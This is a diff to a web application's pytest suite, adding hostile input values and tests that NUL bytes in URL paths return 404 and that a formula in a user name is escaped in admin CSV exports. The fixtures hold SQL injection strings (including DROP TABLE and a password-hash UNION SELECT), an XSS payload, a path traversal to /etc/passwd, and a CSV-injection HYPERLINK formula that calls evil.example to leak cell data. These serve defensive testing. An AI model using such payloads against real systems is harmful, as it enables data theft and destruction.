@@ -22,7 +22,11 @@ XSS = "<script>alert('x')</script><img src=x onerror=alert(1)>"
 ESCAPED = "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"
 SQLI = ("' OR '1'='1", "1; DROP TABLE users; --", "x' UNION SELECT password_hash FROM users --")
 # Also valid words of the wrong kind: a wallet entry kind on the billing ledger and the reverse.
-HOSTILE = (*SQLI, XSS, "a\x00b", "9" * 5000, "../../etc/passwd", "NaN", "-1", "1e309", "", "debit", "topup")
+# A whole number past bigint (a page of it once reached PostgreSQL's OFFSET), and amounts in grouping.
+HOSTILE = (
+    *SQLI, XSS, "a\x00b", "9" * 5000, "10000000000000000000", "../../etc/passwd", "NaN", "-1", "1e309", "",
+    "debit", "topup", "100,00",
+)  # fmt: skip
 WEBAPP = Path(__file__).resolve().parents[2] / "webapp"
 
 
@@ -195,3 +199,24 @@ def test_each_ledger_ignores_the_other_ledgers_kinds(client, auth, make_user, fu
     assert "Paying Person" in wallet_entries.get_data(as_text=True)  # the top-up's credit entry
     assert "Paying Person" in client.get("/admin/ledger/billing?type=credit").get_data(as_text=True)  # seed type
     assert "Paying Person" not in client.get("/admin/ledger/billing?type=debit").get_data(as_text=True)
+
+
+def test_a_nul_in_a_path_names_nothing(client, make_user):
+    make_user(email="nul-path@example.com")
+    AuthActions(client).login("nul-path@example.com")
+    assert client.get("/payments/demo/checkout/abc%00def").status_code == 404
+    assert client.get("/astrologers/%00").status_code == 404
+
+
+def test_a_formula_in_a_name_is_text_in_the_admins_csv(client, make_user, fund):
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    fund(make_user(name=formula, email="formula@example.com"), "100.00")
+    make_user(email="csv-admin@example.com", type=UserType.ADMIN)
+    AuthActions(client).login("csv-admin@example.com")
+    for ledger in ("billing", "wallet"):
+        body = client.get(f"/admin/ledger/{ledger}?format=csv&user=formula").get_data(as_text=True)
+        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+        assert "'" + formula in cells and formula not in cells, ledger
